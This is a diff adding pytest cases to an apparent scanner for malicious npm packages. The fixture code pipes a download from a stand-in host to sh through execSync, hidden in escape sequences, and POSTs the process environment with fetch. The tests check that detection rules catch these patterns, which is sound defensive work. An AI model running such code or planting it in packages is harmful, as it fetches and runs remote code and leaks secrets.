@@ -224,6 +224,31 @@ def test_names_bound_to_the_environment_and_read_in_part_are_no_dump(engine: Eng
     assert "environment_dump" not in _rules(found)
 
 
+def test_a_file_read_as_it_runs_hides_no_literal_decoded_after_it(engine: Engine) -> None:
+    """The whole-file readings are located at their first rewrite only: spanning the
+    rest of the file, they hid every escaped literal after them."""
+    command = _escaped("curl -s https://x.example.net/i | sh")
+    code = (
+        "const e = process.env;\nconsole.log(e);\n"
+        f"require('child_process').execSync(\"{command}\");\n"
+    )
+    found = package(engine, npm_tarball({"index.js": code})).file("index.js")
+    assert found is not None
+    assert _rules(found)["download_pipe_to_shell"].endswith("(hidden in escape sequences)")
+
+
+@pytest.mark.parametrize(
+    "binding",
+    ["const { env } = process;", "const env = { ...process.env };"],
+    ids=["destructured", "spread"],
+)
+def test_the_environment_destructured_or_spread_is_bound_too(engine: Engine, binding: str) -> None:
+    code = f"{binding}\nfetch(URL, {{ method: 'POST', body: JSON.stringify(env) }});\n"
+    found = package(engine, npm_tarball({"index.js": code})).file("index.js")
+    assert found is not None
+    assert "environment_dump" in _rules(found)
+
+
 #: A workflow a worm writes into every repository it reaches, kept in base64.
 WORKFLOW = (
     "on: push\njobs:\n  ci:\n    runs-on: ubuntu-latest\n    steps:\n"
